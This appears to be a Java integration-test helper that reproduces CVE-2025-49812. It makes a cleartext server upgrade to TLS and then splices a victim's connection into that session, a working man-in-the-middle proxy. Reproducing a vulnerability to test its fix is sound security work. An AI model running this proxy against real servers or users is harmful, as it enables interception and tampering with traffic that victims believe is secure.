package org.upgradefilter.it;

import java.io.IOException;
import java.net.Socket;
import java.net.URI;

/**
 * An attacker in the middle (CVE-2025-49812): asks a server in clear for TLS, and then joins the
 * connection to that of a victim, who believes to talk to a server of https.
 */
public final class SplicingProxy implements AutoCloseable {

    private final Listening listening;

    /**
     * @param asking what the attacker sends
     */
    public SplicingProxy(URI server, RawRequest asking) throws IOException {
        listening = new Listening(victim -> splice(victim, server, asking));
    }

    /** Where victims connect to. */
    public URI https(String path) {
        return URI.create("https://" + listening.authority() + path);
    }

    private static void splice(Socket victim, URI server, RawRequest asking) throws IOException {
        Socket upgraded = new Socket(server.getHost(), server.getPort());
        upgraded.getOutputStream().write(asking.bytes());
        if (!skipHead(upgraded).startsWith("HTTP/1.1 101")) {
            throw new AssertionError("the server does not switch");
        }
        SocketThread.start(() -> pipe(victim, upgraded));
        SocketThread.start(() -> pipe(upgraded, victim));
    }

    private static String skipHead(Socket socket) throws IOException {
        StringBuilder head = new StringBuilder();
        while (head.indexOf("\r\n\r\n") < 0) {
            int next = socket.getInputStream().read();
            if (next < 0) {
                throw new AssertionError("the server has closed after " + head);
            }
            head.append((char) next);
        }
        return head.toString();
    }

    private static void pipe(Socket from, Socket to) throws IOException {
        try (to) {
            from.getInputStream().transferTo(to.getOutputStream());
        }
    }

    @Override
    public void close() {
        listening.close();
    }
}
